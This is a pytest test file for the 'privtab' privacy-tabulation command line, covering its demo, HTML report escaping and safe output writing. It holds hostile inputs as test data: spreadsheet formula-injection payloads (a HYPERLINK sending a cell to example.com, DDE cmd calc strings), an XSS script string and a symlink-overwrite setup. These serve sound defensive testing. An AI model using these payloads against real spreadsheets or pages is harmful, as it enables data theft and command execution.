"""The privtab command line and the demo registry."""

from __future__ import annotations

import csv
import os
import re
from html.parser import HTMLParser
from pathlib import Path

import numpy as np
import pandas as pd
import pytest
from click.testing import CliRunner
from rich.console import Console

import privtab
from privtab.accountant import resolve_accountant
from privtab.cli import _demo as demo_module
from privtab.cli import main
from privtab.cli._demo import DEMO_BANNER
from privtab.cli._io import read_table, write_table
from privtab.datasets import load_adult


class StandIns:
    """Small NumPy versions of the counting and noise functions the demo calls."""

    def __init__(self):
        self.tables = []
        self.mechanism_calls = []

    def contingency_table(self, x, y, kx, ky):
        table = np.zeros((kx, ky), dtype=np.int64)
        np.add.at(
            table, (np.asarray(x, dtype=np.int64), np.asarray(y, dtype=np.int64)), 1
        )
        self.tables.append(table)
        return table

    def discrete_laplace_mechanism(
        self, values, sensitivity, epsilon, *, random_state=None, accountant=None
    ):
        acc = resolve_accountant(accountant)
        acc.check(epsilon)
        self.mechanism_calls.append((sensitivity, epsilon, random_state))
        rng = np.random.default_rng(random_state)
        p = 1 - np.exp(-epsilon / sensitivity)
        values = np.asarray(values)
        noisy = values + rng.geometric(p, values.shape) - rng.geometric(p, values.shape)
        acc.spend(epsilon, label="discrete Laplace mechanism")
        return noisy


@pytest.fixture
def stand_ins(monkeypatch):
    fakes = StandIns()
    monkeypatch.setattr(privtab, "contingency_table", fakes.contingency_table)
    monkeypatch.setattr(
        privtab, "discrete_laplace_mechanism", fakes.discrete_laplace_mechanism
    )
    return fakes


def test_version():
    result = CliRunner().invoke(main, ["--version"])
    assert result.exit_code == 0
    assert result.output.strip() == f"privtab, version {privtab.__version__}"


def test_help_lists_commands_and_options():
    result = CliRunner().invoke(main, ["--help"])
    assert result.exit_code == 0
    assert "demo" in result.output
    result = CliRunner().invoke(main, ["demo", "--help"])
    assert result.exit_code == 0
    for text in ("--epsilon", "--seed", "--no-progress", "--only", "contingency"):
        assert text in result.output


def test_demo_runs_and_prints_table_and_ledger(stand_ins):
    result = CliRunner().invoke(
        main,
        [
            "demo",
            "--epsilon",
            "0.5",
            "--seed",
            "7",
            "--no-progress",
            "--only",
            "contingency",
        ],
    )
    assert result.exit_code == 0, result.output
    assert "education x income" in result.output
    assert "Bachelors" in result.output
    assert "<=50K" in result.output
    assert "privacy ledger" in result.output
    assert "discrete Laplace mechanism" in result.output
    assert "0.5 of 0.5" in result.output
    # The true table the demo counted equals an independent crosstab of the data.
    frame = load_adult().frame
    expected = pd.crosstab(frame["education"], frame["income"], dropna=False)
    expected = expected.reindex(
        index=frame["education"].cat.categories, columns=frame["income"].cat.categories
    )
    (table,) = stand_ins.tables
    assert table.shape == (17, 3)  # 16 + missing category, 2 + missing category
    np.testing.assert_array_equal(table[:16, :2], expected.to_numpy())
    assert table[16].sum() == 0
    assert table[:, 2].sum() == 0
    ((sensitivity, epsilon, random_state),) = stand_ins.mechanism_calls
    assert sensitivity == 2
    assert epsilon == 0.5
    assert isinstance(random_state, np.random.Generator)


def test_demo_is_reproducible_with_a_seed(stand_ins):
    runner = CliRunner()
    first = runner.invoke(main, ["demo", "--seed", "3", "--no-progress"])
    second = runner.invoke(main, ["demo", "--seed", "3", "--no-progress"])
    strip = [line for line in first.output.splitlines() if " s ─" not in line]
    assert strip == [line for line in second.output.splitlines() if " s ─" not in line]


def test_demo_without_seed_uses_os_entropy(stand_ins):
    result = CliRunner().invoke(main, ["demo", "--only", "contingency"])
    assert result.exit_code == 0, result.output
    assert stand_ins.mechanism_calls[0][2] is None


@pytest.mark.parametrize(
    ("args", "message"),
    [
        (["--epsilon", "0"], "must be finite and > 0"),
        (["--epsilon", "nan"], "must be finite and > 0"),
        (["--epsilon", "abc"], "is not a valid float"),
        (["--seed", "-1"], "is not in the range x>=0"),
        (["--only", "nope"], "unknown section(s) nope"),
    ],
)
def test_demo_rejects_bad_options(args, message, stand_ins):
    result = CliRunner().invoke(main, ["demo", *args])
    assert result.exit_code == 2
    assert message in result.output
    assert not stand_ins.mechanism_calls


def test_run_demo_directly(stand_ins):
    console = Console(record=True, width=100)
    acc = demo_module.run_demo(
        0.25, seed=1, progress=False, console=console, sections=["contingency"]
    )
    assert acc.spent == 0.25
    assert acc.epsilon == 0.25
    assert [tuple(e) for e in acc.ledger] == [("discrete Laplace mechanism", 0.25)]
    assert "privacy ledger" in console.export_text()


def test_run_demo_validation():
    with pytest.raises(ValueError, match=r"epsilon must be finite and > 0, got -1.0"):
        demo_module.run_demo(-1.0)
    with pytest.raises(ValueError, match=r"seed must be >= 0, got -2"):
        demo_module.run_demo(1.0, seed=-2)
    with pytest.raises(ValueError, match=r"sections has unknown names \['x'\]"):
        demo_module.run_demo(1.0, sections=["x"])


def test_section_registry_rejects_duplicates():
    with pytest.raises(ValueError, match=r"'contingency' is already registered"):
        demo_module.section("contingency", "again")(lambda ctx: None)


def test_io_round_trip(tmp_path):
    frame = pd.DataFrame({"a": [1, 2], "b": ["x", None]})
    for name in ("t.csv", "t.tsv", "t.csv.gz", "t.parquet"):
        write_table(frame, tmp_path / name)
        back = read_table(tmp_path / name)
        assert back["a"].tolist() == [1, 2]
        assert back["b"].tolist()[0] == "x"
        assert pd.isna(back["b"].tolist()[1])
    with pytest.raises(ValueError, match=r"cannot tell the format of"):
        read_table(tmp_path / "t.xlsx")
    with pytest.raises(ValueError, match=r"format must be 'csv', 'tsv' or 'parquet'"):
        read_table(tmp_path / "t.csv", fmt="json")


def test_demo_writes_an_html_report(tmp_path):
    from click.testing import CliRunner

    from privtab.cli import main

    report = tmp_path / "demo.html"
    result = CliRunner().invoke(
        main,
        [
            "demo",
            "--only",
            "contingency",
            "--seed",
            "1",
            "--no-progress",
            "--report",
            str(report),
        ],
    )
    assert result.exit_code == 0, result.output
    html = report.read_text()
    assert html.lstrip().lower().startswith("<!doctype html")
    assert "education" in html
    assert "privacy ledger" in html


class PageParser(HTMLParser):
    """The sections of an HTML page: per <h2>, its tables as lists of rows."""

    def __init__(self):
        super().__init__()
        self.sections, self.tags, self._text, self._row = [], [], None, None

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "h2":
            self.sections.append({"title": "", "tables": []})
            self._text = "title"
        elif tag == "table":
            self.sections[-1]["tables"].append([])
        elif tag == "tr":
            self._row = []
        elif tag in ("td", "th"):
            self._row.append("")
            self._text = "cell"

    def handle_endtag(self, tag):
        if tag in ("h2", "td", "th"):
            self._text = None
        elif tag == "tr":
            self.sections[-1]["tables"][-1].append(self._row)

    def handle_data(self, data):
        if self._text == "title":
            self.sections[-1]["title"] += data
        elif self._text == "cell":
            self._row[-1] += data


def parse_page(text):
    parser = PageParser()
    parser.feed(text)
    return parser


@pytest.mark.parametrize("name", ["demo.png", "demo.pdf", "demo.txt", "demo"])
def test_demo_refuses_a_report_it_would_not_write_as_named(name, tmp_path, stand_ins):
    report = tmp_path / name
    args = ["demo", "--only", "contingency", "--no-progress", "--report", str(report)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2
    assert "the report is an HTML page" in result.output
    assert "must end in .html or .htm" in result.output
    assert not report.exists()
    assert not stand_ins.mechanism_calls  # refused before anything ran


def test_demo_report_is_a_page_with_a_table_per_result(tmp_path):
    report = tmp_path / "demo.HTML"
    args = ["demo", "--only", "contingency", "--seed", "1", "--no-progress"]
    result = CliRunner().invoke(main, [*args, "--report", str(report)])
    assert result.exit_code == 0, result.output
    text = report.read_text(encoding="utf-8")
    # A page of tables, not a console dump: no preformatted text, no box drawing.
    assert "<pre" not in text
    assert not set("━│┃─┏┗") & set(text)
    page = parse_page(text)
    assert [s["title"] for s in page.sections] == [
        "About this report",
        demo_module.SECTIONS["contingency"].title,
        "privacy ledger",
    ]
    assert DEMO_BANNER in text
    (counts,) = page.sections[1]["tables"]
    adult = load_adult()
    income = adult.domains["income"]
    header = ["education"] + [f"{i} {kind}" for i in income for kind in ("true", "DP")]
    assert counts[0] == [*header, "(missing) true", "(missing) DP"]
    # Every label in full, in the declared order, then the missing-value category.
    assert [row[0] for row in counts[1:]] == [*adult.domains["education"], "(missing)"]
    true_counts = pd.crosstab(adult.frame["education"], adult.frame["income"])
    for row in counts[1:-1]:
        for j, label in enumerate(income):
            expected = int(true_counts.loc[row[0], label])
            assert row[1 + 2 * j] == f"{expected:,}"
    (ledger,) = page.sections[2]["tables"]
    assert ledger == [
        ["release", "ε", "guarantee"],
        ["discrete_laplace_mechanism", "1", "dp"],
    ]


def test_demo_report_escapes_what_it_shows(tmp_path, monkeypatch):
    from rich.table import Table

    from privtab.cli._options import literal

    hostile = "<script>alert(1)</script> & [bold red]x[/]"

    def show_hostile_text(ctx):
        view = Table(title=literal(f"title {hostile}"))
        view.add_column(literal(hostile))
        view.add_row(literal(hostile))
        ctx.show(view)
        ctx.show(literal(hostile))

    title = literal(f"section {hostile}")
    section = demo_module.Section("hostile", title, 1, show_hostile_text)
    monkeypatch.setitem(demo_module.SECTIONS, "hostile", section)
    report = tmp_path / "demo.html"
    args = ["demo", "--only", "hostile", "--no-progress", "--report", str(report)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output
    text = report.read_text(encoding="utf-8")
    assert "<script" not in text
    escaped = "&lt;script&gt;alert(1)&lt;/script&gt; &amp; [bold red]x[/]"
    # contents, section title, caption, header, cell, line
    assert text.count(escaped) == 6
    page = parse_page(text)
    assert page.sections[1]["title"] == f"section {hostile}"
    assert page.sections[1]["tables"] == [[[hostile], [hostile]]]


def test_demo_report_to_an_unwritable_path_fails_cleanly(tmp_path):
    from click.testing import CliRunner

    from privtab.cli import main

    target = tmp_path / "missing-dir" / "demo.html"
    result = CliRunner().invoke(
        main, ["demo", "--only", "contingency", "--seed", "1", "--report", str(target)]
    )
    assert result.exit_code == 1
    assert "cannot write --report" in result.output


def test_data_derived_text_is_printed_literally_not_as_markup(monkeypatch, stand_ins):
    from sklearn.utils import Bunch

    markup = "[bold red]x[/]"
    adult = load_adult()
    frame = adult.frame.copy()
    frame["education"] = frame["education"].cat.rename_categories({"Bachelors": markup})
    domains = dict(adult.domains)
    domains["education"] = [
        markup if v == "Bachelors" else v for v in domains["education"]
    ]
    changed = Bunch(**{**adult, "frame": frame, "domains": domains})
    monkeypatch.setattr("privtab.datasets.load_adult", lambda: changed)
    console = Console(record=True, width=200)
    demo_module.run_demo(
        1.0, seed=1, progress=False, console=console, sections=["contingency"]
    )
    text = console.export_text()
    assert markup in text
    assert "Bachelors" not in text
    # The row of the renamed category holds its true counts (an independent crosstab).
    counts = pd.crosstab(frame["education"], frame["income"]).loc[markup]
    row = next(line for line in text.splitlines() if markup in line)
    for count in counts:
        assert f"{count:,}" in row


def test_literal_escapes_rich_markup():
    from privtab.cli._options import literal

    console = Console(record=True, width=80)
    for text in ("[bold red]x[/]", "[/]", "a [link=http://x]b[/link]", "[1, 2]"):
        console.print(literal(text))
        assert console.export_text().strip() == text


# Every subcommand, run on a small table of its own (IN.csv), writing OUT.
SUBCOMMANDS = {
    "select": (
        ["--target", "label", "--n-features", "1", "--method", "greedy"],
        "json",
    ),
    "histogram": (
        ["--target", "label", "--allow-inferred-domains", "--seed", "1"],
        "csv",
    ),
    "distances": (["--method", "dilca_m", "--allow-inferred-domains"], "json"),
    "mask": (["--bounds", "f0=0:1", "--bounds", "f1=0:1", "--seed", "1"], "csv"),
    "kac": (["--target", "label", "--anonymity", "2"], "json"),
}


@pytest.fixture
def small_csv(tmp_path):
    rng = np.random.default_rng(4)
    frame = pd.DataFrame(
        {
            "f0": rng.integers(0, 2, 60),
            "f1": rng.integers(0, 2, 60),
            "label": rng.choice(["a", "b"], 60),
        }
    )
    path = tmp_path / "in.csv"
    frame.to_csv(path, index=False)
    # mask releases numeric tables: its IN has no text column.
    numeric = tmp_path / "numeric.csv"
    frame[["f0", "f1"]].to_csv(numeric, index=False)
    return path, numeric


def invoke(command, small_csv, out, *extra):
    path, numeric = small_csv
    args, _ = SUBCOMMANDS[command]
    source = numeric if command == "mask" else path
    return CliRunner().invoke(
        main, [command, str(source), "-o", str(out), *args, *extra]
    )


@pytest.mark.parametrize("command", sorted(SUBCOMMANDS))
def test_an_existing_out_is_replaced_only_with_force(command, small_csv, tmp_path):
    out = tmp_path / f"out.{SUBCOMMANDS[command][1]}"
    out.write_text("kept\n")
    result = invoke(command, small_csv, out)
    assert result.exit_code == 2
    assert "exists; pass --force to replace it" in result.output
    assert out.read_text() == "kept\n"
    result = invoke(command, small_csv, out, "--force")
    assert result.exit_code == 0, result.output
    assert out.read_text() != "kept\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["in.csv", "numeric.csv", out.name]
    )


@pytest.mark.parametrize("command", sorted(SUBCOMMANDS))
def test_out_is_never_in_even_with_force(command, small_csv, tmp_path):
    source = small_csv[1] if command == "mask" else small_csv[0]
    before = source.read_bytes()
    link = tmp_path / "link.csv"
    link.symlink_to(source)
    hard = tmp_path / "hard.csv"
    os.link(source, hard)
    for out in (source, link, hard, tmp_path / "." / source.name):
        result = invoke(command, small_csv, out, "--force")
        assert result.exit_code == 2, (out, result.output)
        assert "writing it would destroy IN, even with --force" in result.output
        assert source.read_bytes() == before
        assert link.is_symlink()


@pytest.mark.parametrize("command", sorted(SUBCOMMANDS))
def test_a_symlink_at_out_is_replaced_not_followed(command, small_csv, tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("not yours\n")
    out = tmp_path / f"out.{SUBCOMMANDS[command][1]}"
    out.symlink_to(victim)
    result = invoke(command, small_csv, out)
    assert result.exit_code == 2
    assert "is a symbolic link; pass --force to replace it" in result.output
    result = invoke(command, small_csv, out, "--force")
    assert result.exit_code == 0, result.output
    assert not out.is_symlink()
    assert victim.read_text() == "not yours\n"


def test_a_failed_write_leaves_the_old_out_intact(small_csv, tmp_path, monkeypatch):
    from privtab.cli import _io

    def fail_half_way(frame, path, fmt=None):
        Path(path).write_text("half a table\n")
        raise OSError("No space left on device")

    monkeypatch.setattr(_io, "write_table", fail_half_way)
    out = tmp_path / "out.csv"
    out.write_text("the old release\n")
    result = invoke("histogram", small_csv, out, "--force")
    assert result.exit_code == 1
    assert "cannot write" in result.output
    assert "No space left on device" in result.output
    assert out.read_text() == "the old release\n"
    assert sorted(p.name for p in tmp_path.iterdir()) == [
        "in.csv",
        "numeric.csv",
        "out.csv",
    ]


def test_demo_report_is_replaced_only_with_force(tmp_path, stand_ins):
    report = tmp_path / "demo.html"
    report.write_text("kept")
    args = ["demo", "--only", "contingency", "--no-progress", "--report", str(report)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 2
    assert "exists; pass --force to replace it" in result.output
    assert report.read_text() == "kept"
    assert not stand_ins.mechanism_calls  # refused before anything ran
    result = CliRunner().invoke(main, [*args, "--force"])
    assert result.exit_code == 0, result.output
    assert "privacy ledger" in report.read_text()


FORMULAS = [
    '=HYPERLINK("http://example.com/?"&A2,"click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+2",
    "-2+3+cmd|' /C calc'!A0",
    "\tTab",
    "\rReturn",
]


def test_table_cells_that_a_spreadsheet_would_run_are_escaped(tmp_path):
    frame = pd.DataFrame(
        {
            "name": [*FORMULAS, "plain", "-1.5", "a\r=1+1"],
            "value": [-1.5, 2.0, -3.0, 0.5, 1.0, -0.25, 7.0, 8.0, -9.5],
            "level": pd.Categorical(["=1+1", "low"] * 4 + ["low"]),
            "=cmd": range(9),
        }
    )
    original = frame.copy()
    for name in ("t.csv", "t.tsv"):
        write_table(frame, tmp_path / name)
        back = read_table(tmp_path / name)
        # "-1.5" is a plain number, no formula: it stays as written.
        escaped = ["'" + f for f in FORMULAS]
        assert back["name"].tolist() == [*escaped, "plain", "-1.5", "a\r=1+1"]
        assert back["value"].dtype == np.float64
        assert back["value"].tolist() == original["value"].tolist()
        assert set(back["level"]) == {"'=1+1", "low"}
        assert list(back.columns) == ["name", "value", "level", "'=cmd"]
        text = (tmp_path / name).read_text()
        sep = "\t" if name.endswith("tsv") else ","
        assert f"{sep}-1.5{sep}" in text  # the number, unquoted
    pd.testing.assert_frame_equal(frame, original)  # the caller's frame is untouched
    write_table(frame, tmp_path / "t.parquet")
    pd.testing.assert_frame_equal(read_table(tmp_path / "t.parquet"), original)


def test_a_projection_holding_a_formula_is_escaped(tmp_path):
    frame = pd.DataFrame(
        {
            "name": FORMULAS * 10,
            "score": np.tile([-1.5, 2.5], 30),
            "label": np.repeat(["yes", "no"], 30),
        }
    )
    path, out = tmp_path / "in.csv", tmp_path / "out.csv"
    # Quoted, so that the carriage return stays in its cell.
    frame.to_csv(path, index=False, quoting=csv.QUOTE_NONNUMERIC)
    args = [
        "select",
        str(path),
        "-o",
        str(out),
        "--target",
        "label",
        "--n-features",
        "2",
    ]
    result = CliRunner().invoke(
        main, [*args, "--method", "greedy", "--write-projection"]
    )
    assert result.exit_code == 0, result.output
    written = pd.read_csv(out)
    expected = frame.assign(name="'" + frame["name"])
    pd.testing.assert_frame_equal(
        written.sort_index(axis=1), expected.sort_index(axis=1)
    )


# Classes of defects across every subcommand -------------------------------------


@pytest.fixture
def reads_of_in(monkeypatch):
    """Record every read of IN's data (its header alone is not counted)."""
    from privtab.cli import _io

    reads = []
    for name in ("read_table", "read_parquet_lazily"):
        original = getattr(_io, name)

        def recording(*args, _original=original, _name=name, **kwargs):
            reads.append(_name)
            return _original(*args, **kwargs)

        monkeypatch.setattr(_io, name, recording)
    return reads


@pytest.mark.parametrize("command", sorted(SUBCOMMANDS))
@pytest.mark.parametrize("name", ["out.txt", "out", "out.parquet.gz"])
def test_every_subcommand_refuses_a_bad_out_extension_before_reading_in(
    command, name, small_csv, tmp_path, reads_of_in
):
    # With --write-projection, select and kac accept a table OUT as well as .json.
    extra = ["--write-projection"] if command in ("select", "kac") else []
    result = invoke(command, small_csv, tmp_path / name, *extra)
    assert result.exit_code == 2, result.output
    assert "Invalid value for '--output'" in result.output
    assert "must end in" in result.output
    assert reads_of_in == []
    assert not (tmp_path / name).exists()


#: An option naming a column IN does not have, per subcommand.
UNKNOWN_COLUMN = {
    "select": ["--domain", "nope=a,b"],
    "histogram": ["--bounds", "nope=0:1"],
    "distances": ["--missing", "nope"],
    "mask": ["--bounds", "nope=0:1"],
    "kac": ["--target", "nope"],
}


@pytest.mark.parametrize("command", sorted(SUBCOMMANDS))
def test_every_subcommand_checks_the_columns_options_name_before_reading_in(
    command, small_csv, tmp_path, reads_of_in
):
    out = tmp_path / f"out.{SUBCOMMANDS[command][1]}"
    result = invoke(command, small_csv, out, *UNKNOWN_COLUMN[command])
    assert result.exit_code == 2, result.output
    assert "'nope' is not a" in result.output
    assert UNKNOWN_COLUMN[command][0] in result.output
    assert reads_of_in == []


def _python_parameters():
    """Every parameter name of the estimators and functions the subcommands call."""
    import inspect

    from privtab.dilca import DILCA, DPDILCA
    from privtab.dpfsdr import DPFS, DPFSDR

    callables = [
        privtab.TableEncoder,
        privtab.MicroaggregationMasker,
        privtab.KACSelector,
        privtab.PrivateKD,
        privtab.ProjectedHistogram,
        privtab.greedy_discernibility,
        DILCA,
        DPDILCA,
        DPFSDR,
        DPFS,
        read_table,
        write_table,
    ]
    names = {"X", "B", "y"}
    for f in callables:
        names |= set(inspect.signature(f).parameters) - {"self", "args", "kwargs"}
    for f in callables:
        if isinstance(f, type) and hasattr(f, "fit"):
            names |= set(inspect.signature(f.fit).parameters) - {"self"}
    return names


#: Runs whose errors or warnings come from the library, per subcommand.
LIBRARY_MESSAGES = {
    "mask, a value outside --bounds": (
        "mask",
        ["--bounds", "f0=0:0.5", "--bounds", "f1=0:1", "--seed", "1"],
    ),
    "mask, clusters larger than IN": (
        "mask",
        ["--min-cluster-size", "100", "--bounds", "f0=0:1", "--bounds", "f1=0:1"],
    ),
    "mask, inferred bounds": ("mask", ["--mechanism", "dp", "--seed", "1"]),
    "histogram, a value outside --bounds": (
        "histogram",
        ["--target", "label", "--bounds", "f0=0:0.5", "--bounds", "f1=0:1"],
    ),
    "select, a value outside --bounds": (
        "select",
        ["--target", "label", "--n-features", "1", "--bounds", "f0=0:0.5"],
    ),
    "distances, a value outside --bounds": (
        "distances",
        ["--bounds", "f0=0:0.5", "--allow-inferred-domains"],
    ),
    "kac, more anonymity than rows": (
        "kac",
        ["--target", "label", "--anonymity", "100"],
    ),
    "kac, a text feature": ("kac", ["--target", "f0", "--anonymity", "2"]),
    "select dpfsdr, an undeclared norm": (
        "select",
        [
            *("--target", "label", "--method", "dpfsdr", "--epsilon-selection", "1"),
            *("--epsilon-training", "1", "--classes", "a,b", "--seed", "1"),
        ],
    ),
}


@pytest.mark.parametrize("case", sorted(LIBRARY_MESSAGES))
def test_no_message_speaks_python(case, small_csv, tmp_path):
    command, args = LIBRARY_MESSAGES[case]
    path, numeric = small_csv
    source = numeric if command == "mask" else path
    out = tmp_path / ("out.csv" if command in ("mask", "histogram") else "out.json")
    result = CliRunner().invoke(main, [command, str(source), "-o", str(out), *args])
    messages = result.output
    assert "Error:" in messages or "warning:" in messages, messages
    spelled = [
        name
        for name in _python_parameters()
        if re.search(rf"(?<![\w\-]){re.escape(name)}=", messages)
        or re.search(rf"(?:^|: |; |\. ){re.escape(name)} (must|=) ", messages, re.M)
    ]
    assert spelled == [], messages
    assert "pass the format" not in messages


#: Every former spelling, the option it stands for, and a run that uses it.
ALIASES = [
    ("select", "--k", "--n-features", "1"),
    ("histogram", "--k", "--n-features", "1"),
    ("kac", "--k", "--anonymity", "2"),
    ("mask", "--k", "--min-cluster-size", "5"),
]


def _alias_run(command, option, value, small_csv, out, *extra):
    path, numeric = small_csv
    args = {
        "select": ["--target", "label", "--method", "greedy"],
        "histogram": ["--target", "label", "--allow-inferred-domains", "--seed", "1"],
        "kac": ["--target", "label"],
        "mask": ["--bounds", "f0=0:1", "--bounds", "f1=0:1", "--seed", "1"],
    }[command]
    source = numeric if command == "mask" else path
    return CliRunner().invoke(
        main, [command, str(source), "-o", str(out), *args, option, value, *extra]
    )


@pytest.mark.parametrize(("command", "old", "new", "value"), ALIASES)
def test_every_former_option_spelling_still_works_and_warns(
    command, old, new, value, small_csv, tmp_path
):
    suffix = "csv" if command in ("histogram", "mask") else "json"
    by_old, by_new = tmp_path / f"old.{suffix}", tmp_path / f"new.{suffix}"
    old_run = _alias_run(command, old, value, small_csv, by_old)
    new_run = _alias_run(command, new, value, small_csv, by_new)
    assert old_run.exit_code == 0, old_run.output
    assert new_run.exit_code == 0, new_run.output
    assert f"warning: {old} is deprecated and will be removed; use {new}" in (
        old_run.stderr
    )
    assert "deprecated" not in new_run.stderr
    assert by_old.read_bytes() == by_new.read_bytes()
    help_text = CliRunner().invoke(main, [command, "--help"]).output
    assert new in help_text
    assert re.search(rf"{re.escape(old)}\b(?!-)", help_text) is None
    both = tmp_path / f"both.{suffix}"
    both_run = _alias_run(command, old, value, small_csv, both, new, value)
    assert both_run.exit_code == 2
    assert f"give {new} only" in both_run.output
    assert not both.exists()


def test_select_budget_names_a_budget_file_and_explains_its_former_meaning(
    small_csv, tmp_path
):
    # ``select --budget per_refit|total`` became ``--training-budget``; ``--budget``
    # names the budget file on every command that releases.
    path, _ = small_csv
    args = ["--target", "label", "--method", "dpfsdr", "--classes", "a,b"]
    args += ["--epsilon-selection", "1", "--epsilon-training", "1"]
    args += ["--data-norm", "2", "--budget", "total"]
    out = tmp_path / "out.json"
    result = CliRunner().invoke(main, ["select", str(path), "-o", str(out), *args])
    assert result.exit_code == 2
    assert "--training-budget total" in result.output
    assert not out.exists()


@pytest.mark.parametrize("command", sorted(SUBCOMMANDS))
def test_every_subcommand_shows_its_progress_on_a_terminal(
    command, small_csv, tmp_path, monkeypatch
):
    import io

    from privtab.cli import _progress

    drawn = io.StringIO()
    monkeypatch.setattr(
        _progress,
        "stderr_console",
        lambda: Console(file=drawn, force_terminal=True, width=100),
        raising=False,
    )
    out = tmp_path / f"out.{SUBCOMMANDS[command][1]}"
    result = invoke(command, small_csv, out)
    assert result.exit_code == 0, result.output
    shown = drawn.getvalue()
    assert "0:00:0" in shown  # the time elapsed
    assert any(
        word in shown for word in ("selecting", "histogram", "distances", "masking")
    )
